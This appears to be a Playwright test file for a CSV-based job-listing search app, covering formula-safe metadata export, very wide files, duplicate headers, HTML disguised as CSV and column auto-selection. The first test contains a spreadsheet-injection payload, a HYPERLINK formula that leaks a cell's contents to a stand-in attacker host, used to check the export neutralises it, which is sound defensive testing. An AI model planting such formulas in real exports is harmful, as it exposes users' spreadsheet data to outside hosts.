/**
 * Issue 15, items 2 and 11 (CSV parts): formula-safe CSV exports, and hostile or odd CSV files
 * (150,000 columns, duplicate header names, an HTML page without a doctype, a CSV whose only text
 * column is a name).
 */
import { readFile } from 'node:fs/promises';
import { expect, test, type Page } from '@playwright/test';
import Papa from 'papaparse';
import { openApp, waitForBackend } from './support/app';

async function openSearch(page: Page) {
  await openApp(page, { route: '/search' });
  await waitForBackend(page, 'WASM');
  await expect(page.getByTestId('dataset-status')).toContainText('listings loaded from “job-listings.csv”');
}

async function loadFile(page: Page, name: string, content: string) {
  await page
    .getByLabel('Choose a CSV file…')
    .setInputFiles({ name, mimeType: 'text/csv', buffer: Buffer.from(content) });
}

const stillLoaded = (page: Page) =>
  expect(page.getByTestId('dataset-status')).toContainText('listings loaded from “job-listings.csv”');

test.describe('CSV files in and out (WASM, tiny-bert)', () => {
  test('the metadata CSV neutralises a title a spreadsheet would run as a formula', async ({ page }) => {
    await openSearch(page);
    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
    await loadFile(
      page,
      'formula.csv',
      Papa.unparse([
        ['Job Title', 'Job Description'],
        [formula, 'A data analyst who builds dashboards.'],
        ['@SUM(1+1)', 'A nurse for night shifts on a busy ward.'],
        ['Chef', 'Cooks seasonal food in a small kitchen.'],
      ]),
    );
    await expect(page.getByTestId('dataset-status')).toContainText('3 listings loaded from “formula.csv”');
    await page.getByLabel('How many listings to embed', { exact: true }).fill('3');
    await page.getByRole('button', { name: 'Embed 3 listings' }).click();
    await expect(page.getByTestId('embed-progress')).toContainText('3 / 3 rows', { timeout: 60_000 });
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Export metadata CSV' }).click(),
    ]);
    const rows = Papa.parse<string[]>((await readFile(await download.path(), 'utf8')).trim()).data;
    expect(rows.map((row) => row[1])).toEqual(['title', `'${formula}`, "'@SUM(1+1)", 'Chef']);
  });

  test('a CSV with 150,000 columns says the file has too many columns and keeps the loaded rows', async ({
    page,
  }) => {
    await openSearch(page);
    const columns = Array.from({ length: 150_000 }, (_, i) => `c${i}`);
    await loadFile(page, 'wide.csv', `${columns.join(',')}\n${columns.map(() => 'text').join(',')}\n`);
    const error = page.getByTestId('dataset-error');
    await expect(error).toContainText('too many columns');
    await expect(error).toContainText('150000 columns');
    await expect(error).not.toContainText('call stack');
    await stillLoaded(page);
  });

  test('duplicate header names appear once each in the column picker, told apart', async ({ page }) => {
    await openSearch(page);
    await loadFile(
      page,
      'dupes.csv',
      'title,title,description\nNurse,Night nurse,Cares for patients at night.\nChef,Head chef,Cooks food.\n',
    );
    await expect(page.getByTestId('dataset-status')).toContainText('2 listings loaded from “dupes.csv”');
    await page.getByText('Columns: embedding').click();
    const options = await page.getByLabel('Text to embed').locator('option').allInnerTexts();
    expect(options).toHaveLength(3);
    expect(new Set(options).size).toBe(3);
    expect(options).toEqual(['title (column 1)', 'title (column 2)', 'description']);
  });

  test('an HTML page without a doctype is recognised by its content and refused', async ({ page }) => {
    await openSearch(page);
    await loadFile(
      page,
      'download.csv',
      '<head>\n<title>Moved</title>\n</head>\n<body>\n<p>This page has moved, please follow the link.</p>\n</body>\n',
    );
    await expect(page.getByTestId('dataset-error')).toContainText('is a web page (HTML), not a CSV file');
    await stillLoaded(page);
  });

  test('the status line names the column being embedded when it is picked by content', async ({ page }) => {
    await openSearch(page);
    await loadFile(page, 'people.csv', 'name,age\nAlice Smith,30\nBob Jones,41\n');
    const status = page.getByTestId('dataset-status').getByRole('status');
    await expect(status).toContainText('2 listings loaded from “people.csv”');
    await expect(status).toContainText('Embedding the column “name”');
  });
});
